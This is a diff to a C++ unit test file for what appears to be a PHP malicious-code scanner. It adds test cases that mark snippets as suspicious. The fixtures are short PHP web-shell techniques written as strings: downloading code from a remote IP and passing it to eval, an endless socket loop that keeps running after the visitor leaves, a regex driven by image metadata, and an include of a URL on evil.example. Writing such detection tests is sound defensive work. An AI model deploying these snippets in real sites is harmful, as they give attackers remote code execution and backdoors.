@@ -170,6 +170,16 @@ TEST_F(DefaultRules, TechniqueVerdicts) {
       {"every request value a variable", "<?php extract($_POST); echo $name;", Verdict::Suspicious},
       {"fetch from a request host",
        "<?php echo file_get_contents('http://' . $_GET['h'] . '/x');", Verdict::Suspicious},
+      {"downloaded code beside eval",
+       "<?php $c = curl_init('http://203.0.113.9/p.txt'); $t = curl_exec($c);\n"
+       "eval('?>' . unknown_fix($t));",
+       Verdict::Suspicious},
+      {"connections kept open after the visitor left",
+       "<?php ignore_user_abort(true); while (true) { $s = fsockopen($h, 80); fclose($s); }",
+       Verdict::Suspicious},
+      {"regex fed from image metadata",
+       "<?php $e = exif_read_data('a.jpg'); preg_replace($e['Make'], $e['Model'], '');",
+       Verdict::Suspicious},
       // Code loaded from the request or the network.
       {"include of a request path", "<?php include $_GET['page'];", Verdict::Threat},
       {"include of a URL", "<?php include 'http://evil.example/x.txt';", Verdict::Threat},
